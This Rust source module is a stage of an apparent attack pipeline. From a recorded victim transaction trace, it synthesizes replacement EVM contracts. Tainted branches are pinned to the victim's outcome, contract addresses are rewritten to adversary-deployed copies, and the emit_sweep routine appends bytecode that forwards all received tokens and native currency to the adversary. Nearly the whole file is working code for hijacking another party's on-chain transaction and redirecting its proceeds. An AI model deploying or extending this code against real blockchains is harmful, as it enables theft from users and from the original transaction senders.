//! Step 5: emits replacement runtime code for every contract in a patch plan.
//!
//! Only instructions the victim trace executed are kept. Tainted JUMPIs are
//! pinned to the victim's outcome with stack-neutral sequences, hard-coded
//! addresses of replaced contracts are redirected, and beneficiaries get a
//! sweep segment that forwards their takings to the adversary. All jump
//! targets are re-emitted as label references so the layout is recomputed
//! in one pass.

use std::collections::{BTreeMap, BTreeSet};

use bytes::Bytes;
use num_rational::Rational64;
use serde::{Deserialize, Serialize};

use crate::asm::{AsmError, Assembler};
use crate::evm::opcode::{self, *};
use crate::evm::types::create_address;
use crate::evm::{Address, Word, WorldState};
use crate::hexfmt;
use crate::patch::{PatchPlan, ReplaceReason};
use crate::profit::{Asset, ProfitReport};
use crate::taint::TaintReport;
use crate::trace::{Dcfg, Provenance};

#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum SynthError {
    #[error("plan was aborted")]
    PlanAborted,
    #[error("tainted JUMPI at {pc:#x} in {contract} took both directions")]
    BiBranchBlock { contract: Address, pc: usize },
    #[error("jump at {pc:#x} in {contract} has no PUSH source")]
    ComputedJumpUnresolved { contract: Address, pc: usize },
    #[error(transparent)]
    Asm(#[from] AsmError),
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, thiserror::Error)]
#[error("victim code is empty")]
pub struct ZeroLengthVictim;

mod storage_map {
    use std::collections::BTreeMap;

    use serde::{Deserialize, Deserializer, Serialize, Serializer};

    use crate::evm::Word;
    use crate::hexfmt;

    pub fn serialize<S: Serializer>(v: &BTreeMap<Word, Word>, s: S) -> Result<S::Ok, S::Error> {
        v.iter().map(|(k, v)| (hexfmt::fmt_word32(k), hexfmt::fmt_word32(v))).collect::<BTreeMap<_, _>>().serialize(s)
    }

    pub fn deserialize<'de, D: Deserializer<'de>>(d: D) -> Result<BTreeMap<Word, Word>, D::Error> {
        let raw = BTreeMap::<String, String>::deserialize(d)?;
        raw.iter()
            .map(|(k, v)| Ok((hexfmt::parse_word32(k)?, hexfmt::parse_word32(v)?)))
            .collect::<Result<_, hexfmt::HexError>>()
            .map_err(serde::de::Error::custom)
    }
}

mod ratio {
    use num_rational::Rational64;
    use serde::{Deserialize, Deserializer, Serialize, Serializer};

    #[derive(Serialize, Deserialize)]
    struct Repr {
        num: i64,
        den: i64,
        approx: f64,
    }

    pub fn serialize<S: Serializer>(v: &Rational64, s: S) -> Result<S::Ok, S::Error> {
        Repr { num: *v.numer(), den: *v.denom(), approx: *v.numer() as f64 / *v.denom() as f64 }.serialize(s)
    }

    pub fn deserialize<'de, D: Deserializer<'de>>(d: D) -> Result<Rational64, D::Error> {
        let r = Repr::deserialize(d)?;
        if r.den == 0 {
            return Err(serde::de::Error::custom("zero denominator"));
        }
        Ok(Rational64::new(r.num, r.den))
    }
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct SynthesizedContract {
    pub victim_address: Address,
    /// Address the contract gets when deployed by the adversary.
    pub address: Address,
    pub deploy_nonce: u64,
    #[serde(with = "hexfmt::bytes")]
    pub runtime_code: Bytes,
    #[serde(with = "storage_map")]
    pub storage_init: BTreeMap<Word, Word>,
    /// Replaced victim address to its synthesized address, for every
    /// contract in the plan.
    pub address_rewrites: BTreeMap<Address, Address>,
    pub sweep_assets: Vec<Address>,
    pub sweep_native: bool,
    /// Victim JUMPI offsets pinned to the recorded outcome.
    pub pinned: BTreeMap<usize, bool>,
    /// New offset of each kept victim instruction.
    pub offset_map: BTreeMap<usize, usize>,
    /// Victim offset for each emitted instruction that stands for one.
    pub origin_map: BTreeMap<usize, usize>,
    #[serde(with = "ratio")]
    pub size_reduction_pct: Rational64,
}

/// `(len(victim) - len(synth)) / len(victim) * 100`.
pub fn size_reduction(victim: &[u8], synth: &[u8]) -> Result<Rational64, ZeroLengthVictim> {
    if victim.is_empty() {
        return Err(ZeroLengthVictim);
    }
    let v = victim.len() as i64;
    Ok(Rational64::new((v - synth.len() as i64) * 100, v))
}

/// Creation code that installs `storage_init` and returns the runtime code.
pub fn init_code(c: &SynthesizedContract) -> Vec<u8> {
    let mut a = Assembler::new();
    for (slot, value) in &c.storage_init {
        a.push_n(32, *value).push_n(32, *slot).op(SSTORE);
    }
    let len = c.runtime_code.len() as u64;
    a.push_n(4, Word::from(len)).op(DUP1).push_label("runtime").push(0u64).op(CODECOPY);
    a.push(0u64).op(RETURN).label("runtime").raw(&c.runtime_code);
    a.assemble().expect("runtime label is defined")
}

/// Synthesized addresses in deploy order, from consecutive adversary nonces.
pub fn planned_addresses(plan: &PatchPlan, adversary: Address, next_nonce: u64) -> BTreeMap<Address, (Address, u64)> {
    plan.replace_set
        .iter()
        .enumerate()
        .map(|(i, r)| {
            let nonce = next_nonce + i as u64;
            (r.victim_address, (create_address(adversary, nonce), nonce))
        })
        .collect()
}

pub fn synthesize(
    plan: &PatchPlan,
    dcfg: &Dcfg,
    taint: &TaintReport,
    profit: &ProfitReport,
    state: &WorldState,
    adversary: Address,
    next_nonce: u64,
) -> Result<Vec<SynthesizedContract>, SynthError> {
    if plan.abort.is_some() {
        return Err(SynthError::PlanAborted);
    }
    let planned = planned_addresses(plan, adversary, next_nonce);
    let rewrites: BTreeMap<Address, Address> = planned.iter().map(|(v, (s, _))| (*v, *s)).collect();
    plan.replace_set
        .iter()
        .map(|r| {
            let (address, nonce) = planned[&r.victim_address];
            let sweep = r.reasons.contains(&ReplaceReason::Beneficiary);
            synthesize_one(r.victim_address, address, nonce, sweep, &rewrites, dcfg, taint, profit, state, adversary)
        })
        .collect()
}

/// Instruction sequence executed for one victim contract.
struct Kept {
    pcs: BTreeSet<usize>,
}

fn executed_pcs(dcfg: &Dcfg, contract: Address, code: &[u8]) -> Kept {
    let mut pcs = BTreeSet::new();
    for b in dcfg.blocks_of(contract) {
        let mut pc = b.start_pc;
        while pc <= b.end_pc && pc < code.len() {
            pcs.insert(pc);
            pc += 1 + opcode::immediate_len(code[pc]);
        }
    }
    Kept { pcs }
}

fn can_fall_through(op: u8) -> bool {
    !matches!(op, JUMP | STOP | RETURN | REVERT | SELFDESTRUCT | INVALID)
}

#[allow(clippy::too_many_arguments)]
fn synthesize_one(
    victim: Address,
    address: Address,
    deploy_nonce: u64,
    sweep: bool,
    rewrites: &BTreeMap<Address, Address>,
    dcfg: &Dcfg,
    taint: &TaintReport,
    profit: &ProfitReport,
    state: &WorldState,
    adversary: Address,
) -> Result<SynthesizedContract, SynthError> {
    let code = state.code(&victim);
    let instrs = opcode::disassemble(&code);
    let kept = executed_pcs(dcfg, victim, &code);
    let is_jumpdest = |pc: usize| code.get(pc) == Some(&JUMPDEST);

    let mut pinned = BTreeMap::new();
    for tb in taint.tainted_blocks.iter().filter(|t| t.block.contract == victim) {
        if dcfg.bi_branch.contains(&(victim, tb.jumpi_pc)) {
            return Err(SynthError::BiBranchBlock { contract: victim, pc: tb.jumpi_pc });
        }
        pinned.insert(tb.jumpi_pc, tb.victim_condition);
    }

    // PUSH offsets whose immediates are jump destinations.
    let mut jump_pushes: BTreeMap<usize, usize> = BTreeMap::new();
    for js in dcfg.jump_sources.iter().filter(|j| j.contract == victim) {
        if js.opcode == JUMPI && pinned.get(&js.pc) == Some(&false) {
            continue;
        }
        match &js.provenance {
            Provenance::CodeConstant { contract, pc } if *contract == victim => {
                jump_pushes.insert(*pc, js.destination);
            }
            _ => {
                let candidates: Vec<usize> = instrs
                    .iter()
                    .filter(|i| kept.pcs.contains(&i.pc) && opcode::is_push(i.opcode))
                    .filter(|i| Word::from_big_endian(&i.immediate) == Word::from(js.destination))
                    .map(|i| i.pc)
                    .collect();
                match candidates.as_slice() {
                    [only] => {
                        jump_pushes.insert(*only, js.destination);
                    }
                    _ => return Err(SynthError::ComputedJumpUnresolved { contract: victim, pc: js.pc }),
                }
            }
        }
    }

    // PUSH20 immediates naming replaced contracts.
    let mut addr_pushes: BTreeMap<usize, Address> = BTreeMap::new();
    for e in &dcfg.call_edges {
        if let Provenance::CodeConstant { contract, pc } = e.target_provenance {
            if contract == victim {
                if let Some(new) = rewrites.get(&e.callee) {
                    addr_pushes.insert(pc, *new);
                }
            }
        }
    }
    for i in instrs.iter().filter(|i| kept.pcs.contains(&i.pc) && i.opcode == PUSH20) {
        let a = Address::from_word(Word::from_big_endian(&i.immediate));
        if let Some(new) = rewrites.get(&a) {
            addr_pushes.entry(i.pc).or_insert(*new);
        }
    }

    // Sweep entry: the last instruction of the victim's final effective frame here.
    let (sweep_assets, sweep_native) = if sweep {
        let assets = profit.assets_received(victim);
        let tokens = assets.iter().filter_map(|a| if let Asset::Token(t) = a { Some(*t) } else { None }).collect();
        (tokens, assets.contains(&Asset::Native))
    } else {
        (Vec::new(), false)
    };
    let sweep_entry = if sweep {
        dcfg.frames
            .iter()
            .filter(|f| f.code_address == victim && f.has_code && dcfg.frame_effective(f.frame_index))
            .rev()
            .find_map(|f| f.blocks.last())
            .map(|b| b.end_pc)
    } else {
        None
    };

    let mut a = Assembler::new();
    let mut origin: Vec<(String, usize)> = Vec::new();
    let mut uses_trap = false;
    let mut sweep_tail = STOP;
    let label = |pc: usize| format!("o{pc:x}");
    let mut seq = 0usize;
    let mut mark = |a: &mut Assembler, old: usize, origin: &mut Vec<(String, usize)>| {
        let name = format!("e{seq}");
        seq += 1;
        a.label(&name);
        origin.push((name, old));
    };
    for (idx, ins) in instrs.iter().enumerate() {
        if !kept.pcs.contains(&ins.pc) {
            continue;
        }
        a.label(&label(ins.pc));
        let pc = ins.pc;
        match (ins.opcode, pinned.get(&pc)) {
            (JUMPI, Some(true)) => {
                for op in [SWAP1, POP, JUMP] {
                    mark(&mut a, pc, &mut origin);
                    a.op(op);
                }
                continue;
            }
            (JUMPI, Some(false)) => {
                for op in [POP, POP] {
                    mark(&mut a, pc, &mut origin);
                    a.op(op);
                }
                continue;
            }
            _ => {}
        }
        if sweep_entry == Some(pc) && matches!(ins.opcode, STOP | RETURN | SELFDESTRUCT) {
            sweep_tail = ins.opcode;
            mark(&mut a, pc, &mut origin);
            a.push_label("sweep");
            mark(&mut a, pc, &mut origin);
            a.op(JUMP);
            continue;
        }
        mark(&mut a, pc, &mut origin);
        if let Some(dest) = jump_pushes.get(&pc) {
            if kept.pcs.contains(dest) && is_jumpdest(*dest) {
                a.push_label(&label(*dest));
            } else {
                uses_trap = true;
                a.push_label("trap");
            }
        } else if let Some(new) = addr_pushes.get(&pc) {
            a.push_addr(*new);
        } else {
            a.op(ins.opcode).raw(&ins.immediate);
        }
        if sweep_entry == Some(pc) {
            // Frame ran off the end or halted otherwise: continue into the sweep.
            a.push_label("sweep").op(JUMP);
            continue;
        }
        let next = instrs.get(idx + 1).map(|n| n.pc);
        if can_fall_through(ins.opcode) {
            match next {
                None => {
                    a.op(STOP);
                }
                Some(n) if !kept.pcs.contains(&n) => {
                    a.op(INVALID);
                }
                _ => {}
            }
        }
    }
    if uses_trap {
        a.jumpdest("trap").op(INVALID);
    }
    if sweep_entry.is_some() {
        a.jumpdest("sweep");
        emit_sweep(&mut a, &sweep_assets, sweep_native, adversary);
        a.op(sweep_tail);
    }

    let runtime = a.assemble()?;
    let labels = a.labels()?;
    let offset_map = kept.pcs.iter().filter_map(|pc| labels.get(&label(*pc)).map(|n| (*pc, *n))).collect();
    let origin_map = origin.iter().map(|(name, old)| (labels[name], *old)).collect();

    let mut storage_init = BTreeMap::new();
    for s in dcfg.sloads.iter().filter(|s| s.storage_address == victim) {
        let mut v = state.storage(&victim, &s.slot);
        if v.bits() <= 160 {
            if let Some(new) = rewrites.get(&Address::from_word(v)) {
                v = new.to_word();
            }
        }
        if !v.is_zero() {
            storage_init.insert(s.slot, v);
        }
    }

    let size_reduction_pct = size_reduction(&code, &runtime).unwrap_or_default();
    Ok(SynthesizedContract {
        victim_address: victim,
        address,
        deploy_nonce,
        runtime_code: Bytes::from(runtime),
        storage_init,
        address_rewrites: rewrites.clone(),
        sweep_assets,
        sweep_native,
        pinned,
        offset_map,
        origin_map,
        size_reduction_pct,
    })
}

/// Stack-neutral sweep: forwards each token balance, then the native
/// balance, to the adversary. Scratch memory starts at MSIZE so pending
/// return data is left untouched.
fn emit_sweep(a: &mut Assembler, tokens: &[Address], native: bool, adversary: Address) {
    for t in tokens {
        a.op(MSIZE);
        a.push_selector("balanceOf(address)").push(0xe0u64).op(SHL).op(DUP2).op(MSTORE);
        a.op(ADDRESS).op(DUP2).push(4u64).op(ADD).op(MSTORE);
        a.push(0x20u64).op(DUP2).push(0x24u64).op(DUP4).push_addr(*t).op(GAS).op(STATICCALL).op(POP);
        a.op(DUP1).op(MLOAD);
        a.op(DUP2).push(0x24u64).op(ADD).op(MSTORE);
        a.push_selector("transfer(address,uint256)").push(0xe0u64).op(SHL).op(DUP2).op(MSTORE);
        a.push_addr(adversary).op(DUP2).push(4u64).op(ADD).op(MSTORE);
        a.push(0u64).op(DUP1).push(0x44u64).op(DUP4).push(0u64).push_addr(*t).op(GAS).op(CALL);
        a.op(POP).op(POP);
    }
    if native {
        a.push(0u64).op(DUP1).op(DUP1).op(DUP1).op(SELFBALANCE).push_addr(adversary).op(GAS).op(CALL).op(POP);
    }
}

/// Side-by-side listing of the victim's kept instructions and their
/// synthesized counterparts.
pub fn disassembly_diff(victim_code: &[u8], c: &SynthesizedContract) -> String {
    use std::fmt::Write;
    let mut out = String::new();
    let by_old: BTreeMap<usize, Vec<usize>> = c.origin_map.iter().fold(BTreeMap::new(), |mut m, (new, old)| {
        m.entry(*old).or_default().push(*new);
        m
    });
    let synth = opcode::disassemble(&c.runtime_code);
    let synth_at: BTreeMap<usize, &opcode::Instruction> = synth.iter().map(|i| (i.pc, i)).collect();
    for ins in opcode::disassemble(victim_code) {
        match by_old.get(&ins.pc) {
            Some(news) => {
                let rendered: Vec<String> =
                    news.iter().filter_map(|n| synth_at.get(n)).map(|i| format!("{:04x} {}", i.pc, i)).collect();
                let marker = if rendered.len() == 1 && rendered[0].ends_with(&ins.to_string()) { " " } else { "~" };
                let _ = writeln!(out, "{marker} {:04x} {:<40} | {}", ins.pc, ins.to_string(), rendered.join("; "));
            }
            None => {
                let _ = writeln!(out, "- {:04x} {}", ins.pc, ins);
            }
        }
    }
    let mapped: BTreeSet<usize> = c.origin_map.keys().copied().collect();
    for i in synth.iter().filter(|i| !mapped.contains(&i.pc)) {
        let _ = writeln!(out, "+ {:>44} | {:04x} {}", "", i.pc, i);
    }
    out
}
